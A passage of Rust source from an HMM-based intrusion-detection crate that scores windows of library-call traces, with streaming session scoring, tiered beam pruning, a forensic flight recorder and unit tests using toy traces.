                        log_likelihood: ll,
                        threshold: self.threshold,
                        window: names[start..end].to_vec(),
                        detail,
                    },
                    session,
                ));
            }
            first += k;
        }
        alerts
    }

    /// Incremental scan: one sliding scorer per trace, one alert per
    /// window, same window set as [`WindowScorer::scan`] but scored under
    /// the conditional semantics of [`adprom_hmm::sliding`]. Returns the
    /// sliding scorer's lifetime stats so callers can surface
    /// `sliding.pushes` / `sliding.reanchors`.
    pub fn scan_incremental(
        &self,
        events: &[CallEvent],
        session: &str,
    ) -> (Vec<Alert>, SlidingStats) {
        let n = self.profile.window;
        if events.is_empty() {
            return (Vec::new(), SlidingStats::default());
        }
        let names: Vec<String> = events.iter().map(|e| e.name.to_string()).collect();
        let encoded = self.profile.alphabet.encode_seq(&names);
        let out_of_context: Vec<bool> = events
            .iter()
            .map(|e| self.profile.is_out_of_context(&e.name, &e.caller))
            .collect();
        let labeled: Vec<bool> = names.iter().map(|name| name.contains("_Q")).collect();
        // Prefix counts make "any flagged event in the window?" O(1).
        let prefix = |flags: &[bool]| -> Vec<u32> {
            let mut acc = Vec::with_capacity(flags.len() + 1);
            acc.push(0u32);
            for &f in flags {
                acc.push(acc.last().unwrap() + u32::from(f));
            }
            acc
        };
        let ooc_prefix = prefix(&out_of_context);
        let labeled_prefix = prefix(&labeled);

        let mut sliding = SlidingState::new(self.profile.hmm.n_states(), n);
        // The configured kernel carries into the per-event scorer: sparse
        // propagation, plus per-step beam pruning for beam configs.
        let kernel = match &self.kernel {
            KernelState::Dense => None,
            KernelState::Sparse(sp) => Some(sp.as_ref()),
            KernelState::Beam(sp, beam) => {
                sliding = sliding.with_beam(*beam);
                Some(sp.as_ref())
            }
        };
        let mut alerts = Vec::with_capacity(events.len().saturating_sub(n) + 1);
        let mut emit = |start: usize, end: usize, ll: f64| {
            // The shared precedence rule ([`Flag::classify`]), driven by
            // the precomputed per-event facts.
            let window = names[start..end].to_vec();
            let ooc = (ooc_prefix[end] > ooc_prefix[start])
                .then(|| (start..end).find(|&t| out_of_context[t]).expect("counted"));
            let leak = (labeled_prefix[end] > labeled_prefix[start])
                .then(|| (start..end).find(|&t| labeled[t]).expect("counted"));
            let flag = Flag::classify(ll, self.threshold, leak.is_some(), ooc.is_some());
            let detail = alert_detail(
                flag,
                ooc.map(|t| (&*events[t].name, &*events[t].caller)),
                leak.map(|t| names[t].as_str()),
            );
            alerts.push(self.observe(
                Alert {
                    flag,
                    log_likelihood: ll,
                    threshold: self.threshold,
                    window,
                    detail,
                },
                session,
            ));
        };

        if events.len() <= n {
            let mut score = 0.0;
            for &symbol in &encoded {
                score = sliding.push(&self.profile.hmm, kernel, symbol);
            }
            emit(0, events.len(), score);
        } else {
            for (t, &symbol) in encoded.iter().enumerate() {
                let score = sliding.push(&self.profile.hmm, kernel, symbol);
                if t + 1 >= n {
                    emit(t + 1 - n, t + 1, score);
                }
            }
        }
        if matches!(self.kernel, KernelState::Beam(..)) {
            // `gap_bound` bounds the score error of *every* window this
            // trace produced, so it feeds the same running-max gauge the
            // exact path uses.
            self.metrics
                .beam_gap_bound_max
                .record_max(gap_micronats(sliding.gap_bound()));
        }
        (alerts, sliding.stats())
    }

    /// Highest-severity flag over a whole trace (severity order:
    /// OutOfContext > DataLeak > Anomalous > Normal).
    pub fn verdict(&self, events: &[CallEvent]) -> Flag {
        self.scan(events, "")
            .into_iter()
            .map(|a| a.flag)
            .max()
            .unwrap_or(Flag::Normal)
    }
}

/// Beam gap bound in integral micro-nats for the running-max gauge; an
/// infinite bound (pruning starved the chain) saturates it.
pub(crate) fn gap_micronats(bound: f64) -> i64 {
    if bound.is_finite() {
        (bound * 1e6).ceil() as i64
    } else {
        i64::MAX
    }
}

/// One event digested against a profile: everything the streaming scorer
/// needs, precomputed once. Facts are cheap to clone — the monitor
/// runtime buffers them at ingest and replays clones through
/// crash-isolated workers — because the common case stores no strings at
/// all.
#[derive(Debug, Clone)]
pub(crate) struct WindowEvent {
    /// The literal call name, kept only when it is out-of-vocabulary; an
    /// in-vocabulary fact's name is the profile alphabet's symbol for
    /// `encoded`, read back at emit time (the alphabet is small and hot,
    /// where 10⁴ buffered copies would be scattered across the heap).
    name: Option<Arc<str>>,
    /// Only out-of-context facts keep their caller (it is only ever read
    /// to describe one); everything else stores the empty string.
    caller: String,
    encoded: usize,
    ooc: bool,
    labeled: bool,
}

impl WindowEvent {
    /// The call name this fact was digested from.
    fn name<'a>(&'a self, profile: &'a Profile) -> &'a str {
        self.name
            .as_deref()
            .unwrap_or_else(|| profile.alphabet.decode(self.encoded))
    }

    /// True when this fact can flag a window by itself — out-of-context
    /// or DDG-labeled. Load shedding must never drop such an event.
    pub(crate) fn is_dangerous(&self) -> bool {
        self.ooc || self.labeled
    }
}

/// Tier-ladder state of one session, boxed inside [`SessionScorer`] so
/// unarmed sessions (every scorer outside an overload-configured
/// [`MonitorRuntime`](crate::runtime::MonitorRuntime)) pay one null
/// pointer. Cloned with the scorer state, so a crash-isolated replay
/// that is retried cannot double-count escalations or stamps.
#[derive(Debug, Clone)]
struct TierState {
    /// Tier currently in force (scheduler-assigned or self-escalated).
    tier: ScoringTier,
    /// Spot-check cadence: every `spot_every`-th window emits.
    spot_every: u32,
    /// Windows skipped since the last emitted one (spot tier).
    since_check: u32,
    /// The verdict carried forward across skipped spot-check windows.
    carried: Flag,
    /// Self-escalations back to [`ScoringTier::Full`] so far.
    escalations: u32,
    /// True once any window alarmed — pins the session at the full tier.
    alarmed: bool,
    /// Last emitted window's `score − threshold` (the risk scheduler's
    /// margin input; `+∞` until the first window emits, so brand-new
    /// sessions rank as unknown rather than safe).
    margin: f64,
    /// True when the tier machinery installed (and so may suspend/resume)
    /// the sliding beam; false for dense kernels (nothing to prune) and
    /// beam kernels (the beam is baseline semantics, never suspended).
    owns_beam: bool,
    /// Tier provenance of alarms since the last drain.
    stamps: Vec<TierStamp>,
}

/// The session flight recorder: a bounded ring of recent window traces
/// plus the forensic reports built at alarms since the last drain. Boxed
/// inside [`SessionScorer`] so sessions without forensics pay one null
/// pointer; cloned with the scorer state, so a crash-isolated replay that
/// is retried cannot duplicate reports (the clone starts from the
/// last-committed, already-drained state).
#[derive(Debug, Clone)]
struct FlightRecorder {
    config: ForensicsConfig,
    /// Recent window traces, oldest first, bounded by `flight_capacity`.
    windows: VecDeque<WindowTrace>,
    /// Windows emitted so far — the next window's index.
    emitted: u64,
    /// Reports built at alarms, in alarm order, awaiting
    /// [`SessionScorer::take_forensics`].
    pending: Vec<ForensicReport>,
}

/// The per-session streaming state of one monitored connection: the
/// last ≤ n events' facts plus (in incremental mode) the sliding forward
/// recurrence. Feed events with [`SessionScorer::push`]; close the
/// session with [`SessionScorer::finalize`] to emit the single short
/// window of a trace that never filled a full one.
///
/// Equivalence contract (what the interleaving proptest pins): pushing a
/// session's events through a `SessionScorer` — in any interleaving with
/// other sessions — produces exactly the alerts of
/// [`WindowScorer::scan`] (exact mode) or
/// [`WindowScorer::scan_incremental`] (incremental mode) over the
/// de-interleaved trace, bit for bit.
///
/// `Clone` snapshots the whole recurrence: a crash-isolated worker clones
/// the state, replays events into the clone, and commits it only on
/// success, so a retried panic never double-pushes.
#[derive(Debug, Clone)]
pub struct SessionScorer {
    mode: ScoringMode,
    window: usize,
    ring: VecDeque<WindowEvent>,
    sliding: Option<SlidingState>,
    seen: usize,
    done: bool,
    flight: Option<Box<FlightRecorder>>,
    tier: Option<Box<TierState>>,
}

impl SessionScorer {
    /// Creates streaming state compatible with `scorer`'s profile and
    /// kernel.
    pub fn new(scorer: &WindowScorer, mode: ScoringMode) -> SessionScorer {
        let window = scorer.profile.window;
        let sliding = (mode == ScoringMode::Incremental).then(|| {
            let state = SlidingState::new(scorer.profile.hmm.n_states(), window);
            match scorer.kernel() {
                KernelState::Beam(_, beam) => state.with_beam(*beam),
                _ => state,
            }
        });
        SessionScorer {
            mode,
            window,
            ring: VecDeque::with_capacity(window),
            sliding,
            seen: 0,
            done: false,
            flight: None,
            tier: None,
        }
    }

    /// Arms the session flight recorder: every scored window's
    /// `(score, threshold, delta, flag)` lands in a bounded ring, and each
    /// alarmed window additionally gets a [`ForensicReport`] — its top-k
    /// most-deviant call transitions (exact per-step factors of the
    /// window's score) plus the recorder's recent-window tail. Reports
    /// accumulate until [`SessionScorer::take_forensics`] drains them.
    ///
    /// In exact mode the scoring pass itself produces the per-step
    /// factors, so forensics adds no extra forward recursion; benign
    /// windows allocate nothing beyond the ring slot. In incremental mode
    /// the alert's score is conditional on session history, so the
    /// attribution is a separate π-anchored pass over the alarmed
    /// window's own calls — run only when a window alarms.
    pub fn with_forensics(mut self, config: ForensicsConfig) -> SessionScorer {
        self.flight = Some(Box::new(FlightRecorder {
            config,
            windows: VecDeque::with_capacity(config.flight_capacity.max(1)),
            emitted: 0,
            pending: Vec::new(),
        }));
        self
    }

    /// True when [`SessionScorer::with_forensics`] armed the recorder.
    pub fn forensics_enabled(&self) -> bool {
        self.flight.is_some()
    }

    /// Drains the forensic reports built since the last drain, in alarm
    /// order (empty when forensics are disabled or no window alarmed).
    pub fn take_forensics(&mut self) -> Vec<ForensicReport> {
        self.flight
            .as_mut()
            .map(|f| std::mem::take(&mut f.pending))
            .unwrap_or_default()
    }

    /// Arms the risk-budget tier ladder: the session starts at
    /// [`ScoringTier::Full`] and the scheduler may demote it with
    /// [`SessionScorer::assign_tier`]. For a sparse kernel, `beam` is
    /// installed into the sliding recurrence *suspended*
    /// ([`SlidingState::set_beam_active`]) — pushes stay exact until a
    /// demotion activates pruning. No-op outside incremental mode (tiers
    /// modulate the sliding recurrence; exact mode has nothing to
    /// degrade) — and for a beam kernel, whose always-on beam is baseline
    /// semantics and is never toggled. Must be called before any push.
    pub fn with_tier_support(
        mut self,
        scorer: &WindowScorer,
        beam: BeamConfig,
        spot_every: u32,
    ) -> SessionScorer {
        if self.mode != ScoringMode::Incremental {
            return self;
        }
        let owns_beam = matches!(scorer.kernel(), KernelState::Sparse(_))
            && (beam.top_k.is_some() || beam.mass_epsilon > 0.0);
        if owns_beam {
            if let Some(state) = self.sliding.take() {
                let mut state = state.with_beam(beam);
                state.set_beam_active(false);
                self.sliding = Some(state);
            }
        }
        self.tier = Some(Box::new(TierState {
            tier: ScoringTier::Full,
            spot_every: spot_every.max(1),
            since_check: 0,
            carried: Flag::Normal,
            escalations: 0,
            alarmed: false,
            margin: f64::INFINITY,
            owns_beam,
            stamps: Vec::new(),
        }));
        self
    }

    /// True when [`SessionScorer::with_tier_support`] armed the ladder.
    pub(crate) fn tier_armed(&self) -> bool {
        self.tier.is_some()
    }

    /// The scoring tier in force ([`ScoringTier::Full`] when the ladder
    /// is unarmed).
    pub fn tier(&self) -> ScoringTier {
        self.tier.as_deref().map_or(ScoringTier::Full, |t| t.tier)
    }

    /// Assigns the session's scoring tier (the serial scheduler's side of
    /// the ladder). Alarmed sessions are pinned at [`ScoringTier::Full`]
    /// — the starvation floor — so a demotion request on one is a no-op.
    /// Activates or suspends the tier-owned sliding beam to match.
    pub(crate) fn assign_tier(&mut self, tier: ScoringTier) {
        let Some(state) = self.tier.as_deref_mut() else {
            return;
        };
        let tier = if state.alarmed {
            ScoringTier::Full
        } else {
            tier
        };
        state.tier = tier;
        state.since_check = 0;
        if state.owns_beam {
            if let Some(sliding) = self.sliding.as_mut() {
                sliding.set_beam_active(tier != ScoringTier::Full);
            }
        }
    }

    /// Last emitted window's `score − threshold` (`+∞` until one emits)
    /// — the risk scheduler's margin input.
    pub(crate) fn risk_margin(&self) -> f64 {
        self.tier.as_deref().map_or(f64::INFINITY, |t| t.margin)
    }

    /// True once any window of this session alarmed (tier-armed sessions
    /// only).
    pub(crate) fn has_alarmed(&self) -> bool {
        self.tier.as_deref().is_some_and(|t| t.alarmed)
    }

    /// Self-escalations back to [`ScoringTier::Full`] so far.
    pub fn escalations(&self) -> u32 {
        self.tier.as_deref().map_or(0, |t| t.escalations)
    }

    /// The verdict in force between spot checks — the last emitted
    /// window's flag, carried forward across skipped windows (`None`
    /// until a tier-armed session emits its first window).
    pub fn carried_verdict(&self) -> Option<Flag> {
        self.tier
            .as_deref()
            .filter(|t| t.margin.is_finite())
            .map(|t| t.carried)
    }

    /// Cumulative beam-pruning score-error bound of the sliding
    /// recurrence, in nats (`0.0` in exact mode or when nothing was ever
    /// pruned). Sound for every window scored so far.
    pub fn gap_bound(&self) -> f64 {
        self.sliding.as_ref().map_or(0.0, SlidingState::gap_bound)
    }

    /// Drains the tier stamps recorded for alarms since the last drain,
    /// in alarm order (empty when the ladder is unarmed).
    pub(crate) fn take_tier_stamps(&mut self) -> Vec<TierStamp> {
        self.tier
            .as_deref_mut()
            .map(|t| std::mem::take(&mut t.stamps))
            .unwrap_or_default()
    }

    /// The streaming mode in force.
    pub fn mode(&self) -> ScoringMode {
        self.mode
    }

    /// Events pushed so far.
    pub fn seen(&self) -> usize {
        self.seen
    }

    /// Sliding-scorer accounting (incremental mode; zeroes otherwise).
    pub fn stats(&self) -> SlidingStats {
        self.sliding
            .as_ref()
            .map(SlidingState::stats)
            .unwrap_or_default()
    }

    /// Advances the session by one event; returns the alert of the window
    /// ending at this event once at least `n` events have arrived.
    pub fn push(
        &mut self,
        scorer: &WindowScorer,
        event: &CallEvent,
        session: &str,
    ) -> Option<Alert> {
        self.push_fact(scorer, scorer.digest(event), session)
    }

    /// [`SessionScorer::push`] with the digestion already done — the
    /// monitor runtime digests at ingest (against the session's pinned
    /// profile) and replays buffered facts here.
    pub(crate) fn push_fact(
        &mut self,
        scorer: &WindowScorer,
        fact: WindowEvent,
        session: &str,
    ) -> Option<Alert> {
        assert!(!self.done, "session already finalized");
        let profile = scorer.profile();
        let encoded = fact.encoded;
        if self.ring.len() == self.window {
            self.ring.pop_front();
        }
        self.ring.push_back(fact);
        self.seen += 1;
        match self.mode {
            ScoringMode::ExactWindows => (self.ring.len() == self.window).then(|| {
                let timer = scorer.metrics().score_ns.is_enabled().then(Instant::now);
                let encoded: Vec<usize> = self.ring.iter().map(|f| f.encoded).collect();
                // With forensics armed, the scoring pass itself yields the
                // per-step factors — same recursion, same op order, one run.
                let (ll, steps) = if self.flight.is_some() {
                    let scored = scorer.score_attributed_encoded(&encoded);
                    (scored.log_likelihood, Some(scored.steps))
                } else {
                    (scorer.score_encoded(&encoded), None)
                };
                if let Some(t0) = timer {
                    scorer
                        .metrics()
                        .score_ns
                        .record(u64::try_from(t0.elapsed().as_nanos()).unwrap_or(u64::MAX));
                }
                self.emit(scorer, ll, ll, session, steps)
            }),
            ScoringMode::Incremental => {
                let sliding = self.sliding.as_mut().expect("incremental state");
                let kernel = match scorer.kernel() {
                    KernelState::Dense => None,
                    KernelState::Sparse(sp) | KernelState::Beam(sp, _) => Some(sp.as_ref()),
                };
                let ll = sliding.push(&profile.hmm, kernel, encoded);
                if self.seen >= self.window {
                    self.emit_scored(scorer, ll, session)
                } else {
                    None
                }
            }
        }
    }

    /// Replays a batch of digested facts, appending each window's alert
    /// to `out` — the monitor runtime's flush path. Alert-equivalent to
    /// calling [`SessionScorer::push`] once per fact; exact mode
    /// additionally hands every window that completes during the batch to
    /// the kernel in one lane-capped pass
    /// ([`WindowScorer::score_batch_encoded`]), which is how multiplexed
    /// sessions sharing an app profile batch naturally — the scores are
    /// identical to scoring each window alone.
    pub(crate) fn push_facts(
        &mut self,
        scorer: &WindowScorer,
        facts: &[WindowEvent],
        session: &str,
        out: &mut Vec<Alert>,
    ) {
        match self.mode {
            ScoringMode::ExactWindows => {
                assert!(!self.done, "session already finalized");
                if facts.is_empty() {
                    return;
                }
                let w = self.window;
                // One contiguous view of ring + incoming facts: every
                // window completing during this batch is a slice of it.
                let mut combined: Vec<WindowEvent> =
                    Vec::with_capacity(self.ring.len() + facts.len());
                combined.extend(self.ring.iter().cloned());
                combined.extend_from_slice(facts);
                let encoded: Vec<usize> = combined.iter().map(|f| f.encoded).collect();
                // The window ending at combined[e] completes once e+1 ≥ w;
                // only windows ending at one of this batch's facts are new.
                let first_fact = combined.len() - facts.len();
                let want_steps = self.flight.is_some();
                let mut end = first_fact.max(w.saturating_sub(1));
                while end < combined.len() {
                    let k = MAX_BATCH_LANES.min(combined.len() - end);
                    let lanes: Vec<&[usize]> =
                        (end..end + k).map(|e| &encoded[e + 1 - w..=e]).collect();
                    let timer = scorer.metrics().score_ns.is_enabled().then(Instant::now);
                    let scored = scorer.score_batch_encoded(&lanes, want_steps);
                    if let Some(t0) = timer {
                        // One sample per window, carrying the batch's
                        // per-window share (the pinned count contract).
                        let per =
                            u64::try_from(t0.elapsed().as_nanos() / k as u128).unwrap_or(u64::MAX);
                        for _ in 0..k {
                            scorer.metrics().score_ns.record(per);
                        }
                    }
                    let mut lane_steps = scored.steps.map(Vec::into_iter);
                    for (lane, ll) in scored.scores.into_iter().enumerate() {
                        let e = end + lane;
                        let steps = lane_steps.as_mut().and_then(Iterator::next);
                        out.push(Self::emit_window(
                            self.mode,
                            &mut self.flight,
                            scorer,
                            ll,
                            ll,
                            session,
                            steps,
                            &combined[e + 1 - w..=e],
                        ));
                    }
                    end += k;
                }
                // Advance the ring to the post-batch state: the last ≤ w
                // events, exactly as per-fact pushes would have left it.
                self.seen += facts.len();
                let keep = combined.len().min(w);
                let tail = combined.len() - keep;
                self.ring.clear();
                self.ring.extend(combined.drain(tail..));
            }
            ScoringMode::Incremental => {
                assert!(!self.done, "session already finalized");
                let profile = scorer.profile();
                let kernel = match scorer.kernel() {
                    KernelState::Dense => None,
                    KernelState::Sparse(sp) | KernelState::Beam(sp, _) => Some(sp.as_ref()),
                };
                for fact in facts {
                    let encoded = fact.encoded;
                    if self.ring.len() == self.window {
                        self.ring.pop_front();
                    }
                    self.ring.push_back(fact.clone());
                    self.seen += 1;
                    let sliding = self.sliding.as_mut().expect("incremental state");
                    let ll = sliding.push(&profile.hmm, kernel, encoded);
                    if self.seen >= self.window {
                        if let Some(alert) = self.emit_scored(scorer, ll, session) {
                            out.push(alert);
                        }
                    }
                }
            }
        }
    }

    /// Closes the session: a trace that never filled a full window emits
    /// its single short window now (matching the whole-trace scanners'
    /// `len ≤ n` branch); longer traces emit nothing further. Also
    /// surfaces the beam gap bound to the running-max gauge.
    pub fn finalize(&mut self, scorer: &WindowScorer, session: &str) -> Option<Alert> {
        if self.done {
            return None;
        }
        self.done = true;
        if let (Some(sliding), KernelState::Beam(..)) = (&self.sliding, scorer.kernel()) {
            scorer
                .metrics()
                .beam_gap_bound_max
                .record_max(gap_micronats(sliding.gap_bound()));
        }
        if self.seen == 0 || self.seen >= self.window {
            return None;
        }
        let (ll, steps) = match self.mode {
            ScoringMode::ExactWindows => {
                let encoded: Vec<usize> = self.ring.iter().map(|f| f.encoded).collect();
                let timer = scorer.metrics().score_ns.is_enabled().then(Instant::now);
                let (ll, steps) = if self.flight.is_some() {
                    let scored = scorer.score_attributed_encoded(&encoded);
                    (scored.log_likelihood, Some(scored.steps))
                } else {
                    (scorer.score_encoded(&encoded), None)
                };
                if let Some(t0) = timer {
                    scorer
                        .metrics()
                        .score_ns
                        .record(u64::try_from(t0.elapsed().as_nanos()).unwrap_or(u64::MAX));
                }
                (ll, steps)
            }
            ScoringMode::Incremental => (
                self.sliding.as_ref().expect("incremental state").score(),
                None,
            ),
        };
        let slack = if self.tier.is_some() {
            self.gap_bound()
        } else {
            0.0
        };
        let alert = self.emit(scorer, ll, ll - slack, session, steps);
        if alert.is_alarm() {
            if let Some(state) = self.tier.as_deref_mut() {
                state.alarmed = true;
                state.stamps.push(TierStamp {
                    tier: state.tier,
                    escalation: None,
                    gap_bound: slack,
                });
            }
        }
        Some(alert)
    }

    /// Tier-aware emission of the incremental window ending at the
    /// current event: unarmed sessions emit exactly as before; armed
    /// sessions classify the flag on the sound lower bound
    /// `score − gap_bound()` (identical to the raw score while nothing
    /// was pruned), may skip provably-Normal spot-check windows, and
    /// self-escalate back to [`ScoringTier::Full`] when a degraded-tier
    /// window alarms or its pruned score lands within the gap bound of
    /// the threshold — the guard-band discipline of the f32 fast path,
    /// transplanted to the tier ladder.
    fn emit_scored(&mut self, scorer: &WindowScorer, ll: f64, session: &str) -> Option<Alert> {
        let Some(state) = self.tier.as_deref() else {
            return Some(self.emit(scorer, ll, ll, session, None));
        };
        let tier = state.tier;
        let due = state.since_check + 1 >= state.spot_every;
        let g = self.gap_bound();
        let threshold = scorer.threshold();
        // The exact conditional score is within [floor, ll]: pruning only
        // ever removes probability mass.
        let floor = ll - g;
        if tier == ScoringTier::SpotCheck && !due {
            // Skip only when the verdict is provably Normal: DataLeak and
            // Anomalous both require a below-threshold score, and
            // OutOfContext is decided by the window facts alone.
            let ooc_in_window = self.ring.iter().any(|f| f.ooc);
            if floor >= threshold && !ooc_in_window {
                let state = self.tier.as_deref_mut().expect("tier state");
                state.since_check += 1;
                state.margin = ll - threshold;
                scorer.metrics().tier_spot_skipped.inc();
                return None;
            }
        }
        let alert = self.emit(scorer, ll, floor, session, None);
        let metrics = scorer.metrics();
        match tier {
            ScoringTier::Full => metrics.tier_full_windows.inc(),
            ScoringTier::BeamPruned => metrics.tier_beam_windows.inc(),
            ScoringTier::SpotCheck => metrics.tier_spot_windows.inc(),
        }
        let alarm = alert.is_alarm();
        let escalation = if tier == ScoringTier::Full {
            None
        } else if alarm {
            Some("alarm raised below full tier")
        } else if g > 0.0 && (ll - threshold).abs() <= g {
            Some("pruned score within gap bound of threshold")
        } else {
            None
        };
        let state = self.tier.as_deref_mut().expect("tier state");
        state.since_check = 0;
        state.margin = ll - threshold;
        state.carried = alert.flag;
        if alarm {
            state.alarmed = true;
            state.stamps.push(TierStamp {
                tier,
                escalation: escalation.map(str::to_string),
                gap_bound: g,
            });
        }
        if escalation.is_some() {
            state.tier = ScoringTier::Full;
            state.escalations += 1;
            metrics.tier_escalations.inc();
            if state.owns_beam {
                if let Some(sliding) = self.sliding.as_mut() {
                    sliding.set_beam_active(false);
                }
            }
        }
        Some(alert)
    }

    /// Builds and observes the alert for the window currently in the ring,
    /// feeding the flight recorder when one is armed. `steps` carries the
    /// scoring pass's own per-step factors (exact mode); when absent an
    /// alarmed window's attribution is computed here, π-anchored over the
    /// ring's calls. `flag_ll` is the score the flag is classified on —
    /// `ll` itself everywhere except tier-armed sessions, which classify
    /// on the gap-bound lower bound.
    fn emit(
        &mut self,
        scorer: &WindowScorer,
        ll: f64,
        flag_ll: f64,
        session: &str,
        steps: Option<Vec<f64>>,
    ) -> Alert {
        self.ring.make_contiguous();
        let (window, _) = self.ring.as_slices();
        Self::emit_window(
            self.mode,
            &mut self.flight,
            scorer,
            ll,
            flag_ll,
            session,
            steps,
            window,
        )
    }

    /// [`SessionScorer::emit`] over an explicit window slice — the batched
    /// replay path emits windows that live in its combined ring+facts
    /// buffer rather than the ring, so this takes the recorder and mode as
    /// split borrows instead of `&mut self`.
    #[allow(clippy::too_many_arguments)]
    fn emit_window(
        mode: ScoringMode,
        flight: &mut Option<Box<FlightRecorder>>,
        scorer: &WindowScorer,
        ll: f64,
        flag_ll: f64,
        session: &str,
        steps: Option<Vec<f64>>,
        window: &[WindowEvent],
    ) -> Alert {
        let profile = scorer.profile();
        let names: Vec<String> = window.iter().map(|f| f.name(profile).to_string()).collect();
        let ooc = window.iter().find(|f| f.ooc);
        let leak = window.iter().find(|f| f.labeled);
        let flag = Flag::classify(flag_ll, scorer.threshold(), leak.is_some(), ooc.is_some());
        let detail = alert_detail(
            flag,
            ooc.map(|f| (f.name(profile), f.caller.as_str())),
            leak.map(|f| f.name(profile)),
        );
        let alert = Alert {
            flag,
            log_likelihood: ll,
            threshold: scorer.threshold(),
            window: names,
            detail,
        };
        if let Some(flight) = flight {
            let threshold = scorer.threshold();
            let index = flight.emitted;
            flight.emitted += 1;
            if flight.windows.len() >= flight.config.flight_capacity.max(1) {
                flight.windows.pop_front();
            }
            flight.windows.push_back(WindowTrace {
                index,
                log_likelihood: ll,
                threshold,
                delta: ll - threshold,
                flag: alert.flag.to_string(),
            });
            if alert.is_alarm() {
                let scored = match steps {
                    // The factors of the pass that scored this window:
                    // resumming them reproduces `ll` bitwise.
                    Some(steps) => StepScores {
                        steps,
                        log_likelihood: ll,
                    },
                    None => {
                        let encoded: Vec<usize> = window.iter().map(|f| f.encoded).collect();
                        scorer.attribution_encoded(&encoded)
                    }
                };
                let share = threshold / window.len().max(1) as f64;
                let mut ranked: Vec<DeviantTransition> = scored
                    .steps
                    .iter()
                    .enumerate()
                    .map(|(t, &log_prob)| DeviantTransition {
                        step: t,
                        call: window[t].name(profile).to_string(),
                        from: t
                            .checked_sub(1)
                            .map(|p| window[p].name(profile).to_string()),
                        log_prob,
                        deficit: log_prob - share,
                    })
                    .collect();
                ranked.sort_by(|a, b| a.log_prob.total_cmp(&b.log_prob).then(a.step.cmp(&b.step)));
                ranked.truncate(flight.config.top_k.max(1));
                flight.pending.push(ForensicReport {
                    mode: match mode {
                        ScoringMode::ExactWindows => "exact_windows",
                        ScoringMode::Incremental => "incremental",
                    }
                    .to_string(),
                    window_index: index,
                    attributed_log_likelihood: scored.log_likelihood,
                    top_deviant: ranked,
                    recent_windows: flight.windows.iter().cloned().collect(),
                });
            }
        }
        scorer.observe(alert, session)
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::alphabet::Alphabet;
    use adprom_hmm::Hmm;
    use adprom_lang::{CallSiteId, LibCall};
    use adprom_trace::CallEvent;
    use std::collections::{BTreeMap, BTreeSet};

    fn event(name: &str, caller: &str) -> CallEvent {
        CallEvent {
            name: name.into(),
            call: LibCall::Printf,
            caller: caller.into(),
            site: CallSiteId(0),
            detail: None,
        }
    }

    fn cyclic_profile() -> Profile {
        let alphabet = Alphabet::new(vec!["a".to_string(), "b".to_string(), "c_Q7".to_string()]);
        let m = alphabet.len();
        let mut a = vec![vec![0.001; m]; m];
        a[0][1] = 1.0;
        a[1][2] = 1.0;
        a[2][0] = 1.0;
        a[3][3] = 1.0;
        let mut b = vec![vec![0.001; m]; m];
        for (i, row) in b.iter_mut().enumerate() {
            row[i] = 1.0;
        }
        let pi = vec![1.0; m];
        let mut hmm = Hmm::from_rows(a, b, pi);
        hmm.smooth(1e-4);
        let mut call_callers: BTreeMap<String, BTreeSet<String>> = BTreeMap::new();
        for name in ["a", "b", "c_Q7"] {
            call_callers
                .entry(name.to_string())
                .or_default()
                .insert("main".to_string());
        }
        Profile {
            app_name: "cyclic".into(),
            alphabet,
            hmm,
            window: 3,
            threshold: -5.0,
            call_callers,
            labeled_outputs: vec!["c_Q7".to_string()],
        }
    }

    fn trace_from(names: &[&str]) -> Vec<CallEvent> {
        names.iter().map(|n| event(n, "main")).collect()
    }

    fn traces() -> Vec<Vec<CallEvent>> {
        vec![
            ["a", "b", "c_Q7", "a", "b", "c_Q7"]
                .iter()
                .map(|n| event(n, "main"))
                .collect(),
            ["b", "a", "a", "b", "a"]
                .iter()
                .map(|n| event(n, "main"))
                .collect(),
            ["a", "evil_exfil", "c_Q7"]
                .iter()
                .map(|n| event(n, "main"))
                .collect(),
            Vec::new(),
            ["a", "b"].iter().map(|n| event(n, "main")).collect(),
            vec![
                event("a", "main"),
                event("b", "attacker_function"),
                event("c_Q7", "main"),
            ],
        ]
    }

    #[test]
    fn session_scorer_exact_matches_whole_trace_scan() {
        let scorer = WindowScorer::new(Arc::new(cyclic_profile()));
        for (i, trace) in traces().iter().enumerate() {
            let expected = scorer.scan(trace, "");
            let mut state = SessionScorer::new(&scorer, ScoringMode::ExactWindows);
            let mut streamed: Vec<Alert> = trace
                .iter()
                .filter_map(|e| state.push(&scorer, e, ""))
                .collect();
            streamed.extend(state.finalize(&scorer, ""));
            assert_eq!(
                format!("{expected:?}"),
                format!("{streamed:?}"),
                "trace {i}: streaming must be bit-identical to scan"
            );
        }
    }

    #[test]
    fn session_scorer_incremental_matches_whole_trace_scan() {
        let scorer = WindowScorer::new(Arc::new(cyclic_profile()));
        for (i, trace) in traces().iter().enumerate() {
            let (expected, stats) = scorer.scan_incremental(trace, "");
            let mut state = SessionScorer::new(&scorer, ScoringMode::Incremental);
            let mut streamed: Vec<Alert> = trace
                .iter()
                .filter_map(|e| state.push(&scorer, e, ""))
                .collect();
            streamed.extend(state.finalize(&scorer, ""));
            assert_eq!(
                format!("{expected:?}"),
                format!("{streamed:?}"),
                "trace {i}: streaming must be bit-identical to scan_incremental"
            );
            assert_eq!(state.stats(), stats, "trace {i}: same push/reanchor totals");
        }
    }

    #[test]
    fn flight_recorder_attributes_alarms_and_stays_empty_when_benign() {
        let scorer = WindowScorer::new(Arc::new(cyclic_profile()));
        // The trained cycle never alarms: no reports, and the recorder's
        // pending list never allocates.
        let benign = trace_from(&["a", "b", "c_Q7", "a", "b", "c_Q7"]);
        let mut state = SessionScorer::new(&scorer, ScoringMode::ExactWindows)
            .with_forensics(ForensicsConfig::default());
        for e in &benign {
            state.push(&scorer, e, "");
        }
        state.finalize(&scorer, "");
        assert!(state.take_forensics().is_empty());

        // An exfiltration call drives windows under threshold: one report
        // per alarm, attributed bitwise to the alert's own score.
        let attack = trace_from(&["a", "evil_exfil", "c_Q7", "a"]);
        let mut state = SessionScorer::new(&scorer, ScoringMode::ExactWindows)
            .with_forensics(ForensicsConfig::default());
        let mut alerts: Vec<Alert> = attack
            .iter()
            .filter_map(|e| state.push(&scorer, e, ""))
            .collect();
        alerts.extend(state.finalize(&scorer, ""));
        let alarms: Vec<&Alert> = alerts.iter().filter(|a| a.is_alarm()).collect();
        assert!(!alarms.is_empty());
        let reports = state.take_forensics();
        assert_eq!(reports.len(), alarms.len());
        for (report, alarm) in reports.iter().zip(&alarms) {
            assert_eq!(
                report.attributed_log_likelihood.to_bits(),
                alarm.log_likelihood.to_bits(),
